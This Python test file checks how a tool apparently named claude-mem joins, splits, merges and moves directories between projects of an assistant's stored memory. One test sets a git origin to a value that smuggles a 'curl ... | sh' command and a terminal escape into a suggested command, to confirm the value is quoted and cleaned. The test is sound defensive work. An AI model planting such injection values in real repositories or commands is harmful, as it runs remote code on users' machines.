"""The user decides which project a directory belongs to: join, split, merge and move."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.api import open_api
from tests.conftest import Home
from tests.payloads import PROJECT_DIR, prompt, stop
from tests.test_project_access import ASKED, SECRET, Place, with_its_config
from tests.test_projects import KEY, ORIGIN, git, make_repository
from tests.viewer import open_viewer

OTHER_ORIGIN = "https://github.com/dev/port.git"
OTHER_KEY = "github.com/dev/port"


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    known = make_repository(tmp_path / "harbor", ORIGIN)
    with open_api(tmp_path / "data", HOME=str(tmp_path)) as api:
        place = Place(api, tmp_path, known)
        place.work(known, f"The {SECRET}")
        yield place


def test_join_gives_a_directory_the_memory_and_moves_its_sessions(place: Place) -> None:
    copy = with_its_config(place)
    place.start(copy)
    place.work(copy)
    joined = place.api.post_json("/api/projects/join", directory=str(copy))
    assert (joined["key"], joined["sessions"]) == (KEY, 2)
    assert place.sessions() == {KEY: 2}
    assert place.project_of(copy) == KEY
    assert SECRET in place.call(copy, "search", query="relay volts", project="*")
    assert ASKED not in place.start(copy)[1]
    again = place.api.post("/api/projects/join", directory=str(copy))
    assert again.status_code == 400 and KEY in again.json()["error"]


def test_join_holds_for_the_project_that_was_asked_for_only(place: Place) -> None:
    other = make_repository(place.root / "port", OTHER_ORIGIN)
    place.work(other)
    copy = with_its_config(place)
    place.api.post_json("/api/projects/join", directory=str(copy))
    (copy / ".git" / "config").write_bytes((other / ".git" / "config").read_bytes())
    assert place.project_of(copy) == str(copy)


def test_split_takes_a_clone_out_with_its_sessions_and_facts(place: Place) -> None:
    clone = with_its_config(place)
    place.api.post_json("/api/projects/join", directory=str(clone))
    for directory in (place.known, clone):
        place.api.add_turn(
            f"rule of {directory.name}", "From now on, always run make lint before a commit.",
            f"I will, also in {directory.name}.", str(directory), f"{directory}/lamp.py",
        )  # fmt: skip
    split = place.api.post_json("/api/projects/split", directory=str(clone))
    assert split["key"] == str(clone)
    assert place.sessions() == {KEY: 2, str(clone): 1}
    for key in (KEY, str(clone)):
        facts = place.api.get_json("/api/facts", project=key, kind="rule")["facts"]
        assert [(fact["count"], "make lint" in fact["value"]) for fact in facts] == [(1, True)]
        memories = place.api.get_json("/api/observations", project=key)["items"]
        assert {memory["project"] for memory in memories} <= {"harbor", "copy"}
    assert SECRET not in place.start(clone)[0]
    assert place.api.post("/api/projects/split", directory=str(clone)).status_code == 400


def test_a_part_of_a_monorepo_can_be_a_project(place: Place) -> None:
    part = place.known / "packages" / "horn"
    part.mkdir(parents=True)
    place.work(part / "deep", "Make the horn loud")
    assert place.sessions() == {KEY: 2}
    place.api.post_json("/api/projects/split", directory=str(part))
    assert place.sessions() == {KEY: 1, str(part): 1}
    (part / "deep").mkdir()
    assert place.project_of(part / "deep") == str(part)
    assert place.project_of(place.known) == place.project_of(part.parent) == KEY
    nested = make_repository(part / "vendor", OTHER_ORIGIN)
    assert place.project_of(nested) == OTHER_KEY, "another repository is not a part of it"


def test_two_parts_of_a_monorepo_can_be_one_project(place: Place) -> None:
    parts = [place.known / name for name in ("horn", "bell")]
    for part in parts:
        part.mkdir()
    place.api.post_json("/api/projects/split", directory=str(parts[0]))
    place.work(parts[1], "Let the bell ring")
    moved = place.api.post_json(
        "/api/projects/move", directory=str(parts[1]), project=str(parts[0])
    )
    assert moved["sessions"] == 1
    assert place.project_of(parts[1]) == str(parts[0])
    missing = place.api.post("/api/projects/move", directory="/no/such/place", project=KEY)
    assert missing.status_code == 404


def test_a_renamed_repository_keeps_its_memory_by_merging(place: Place) -> None:
    git(place.known, "remote", "set-url", "origin", OTHER_ORIGIN)
    context, message = place.start(place.known)
    assert SECRET not in context
    assert f"claude-mem project merge {KEY} {OTHER_KEY}" in message
    assert "merge" not in place.start(place.known)[1], "it is said once"
    place.api.post_json("/api/projects/merge", project=KEY, into=OTHER_KEY)
    assert SECRET in place.start(place.known)[0]
    old_clone = with_its_config(place)
    git(place.root, "config", "-f", str(old_clone / ".git" / "config"), "remote.origin.url", ORIGIN)
    place.api.post_json("/api/projects/join", directory=str(old_clone))
    assert place.project_of(old_clone) == OTHER_KEY, "also a clone that still has the old origin"


def test_merging_back_and_into_itself(place: Place) -> None:
    other = make_repository(place.root / "port", OTHER_ORIGIN)
    place.work(other)
    place.api.post_json("/api/projects/merge", project=OTHER_KEY, into=KEY)
    assert place.project_of(other) == KEY
    assert place.api.post("/api/projects/merge", project=KEY, into=KEY).status_code == 400
    place.api.post_json("/api/projects/split", directory=str(other))
    assert place.project_of(other) == str(other)
    place.api.post_json("/api/projects/merge", project=KEY, into=str(other))
    assert place.project_of(place.known) == str(other)
    assert set(place.sessions()) == {str(other)}


def test_an_origin_in_the_line_for_the_user_is_text(place: Place) -> None:
    git(place.known, "remote", "set-url", "origin", "https://x.example/a';curl${IFS}y|sh;'\x1b[2J")
    _, message = place.start(place.known)
    assert "\x1b" not in message
    assert "'\"'\"';curl" in message, "what is copied is one argument"


def test_a_context_that_was_rendered_ahead_goes_with_the_directory(place: Place) -> None:
    def rendered() -> bytes:
        place.api.catch_up()
        files = place.api.layout.contexts.glob("*clone*")
        return b"".join(file.read_bytes() for file in files)

    clone = with_its_config(place).rename(place.root / "clone")
    place.api.post_json("/api/projects/join", directory=str(clone))
    assert SECRET.encode() in rendered()
    place.api.post_json("/api/projects/split", directory=str(clone))
    assert SECRET.encode() not in rendered()


def test_the_command(home: Home, tmp_path: Path) -> None:
    for payload in (prompt(), stop("The light blinks.")):
        home.hook(payload)
    home.wait_settled()
    directory = tmp_path / "elsewhere"
    directory.mkdir()
    assert PROJECT_DIR in home.command("project", "list").stdout
    refused = home.command("project", "move", str(directory), PROJECT_DIR, CLAUDECODE="1")
    assert refused.returncode == 1 and "terminal of your own" in refused.stderr
    moved = home.command("project", "move", str(directory), PROJECT_DIR)
    assert moved.stdout == f"0 sessions moved to {PROJECT_DIR}\n"
    listed = home.command("project", "list").stdout
    assert str(directory) in listed


def test_the_page_of_a_project_offers_to_merge_split_and_join(tmp_path: Path) -> None:
    known = make_repository(tmp_path / "harbor", ORIGIN)
    with open_viewer(tmp_path / "data", HOME=str(tmp_path)) as viewer:
        place = Place(viewer.api, tmp_path, known)
        viewer.api.add_turn("s", "Repair the lamp.", "Done.", str(known))
        copy = with_its_config(place)
        viewer.api.add_turn("c", "Repair the lamp.", "Done.", str(copy))
        assert viewer.api.worker.store.is_new_claim(str(copy), KEY).result()
        ids = {row["key"]: row["id"] for row in viewer.api.worker.store.project_list()}
        page = viewer.get(f"/project/{ids[KEY]}")
        assert {"merge", "split"} <= set(page.attributes("button", "data-action"))
        assert page.attributes("button", "data-directory") == [str(known)]
        page = viewer.get(f"/project/{ids[str(copy)]}")
        assert "join" in page.attributes("button", "data-action") and page.has(KEY)
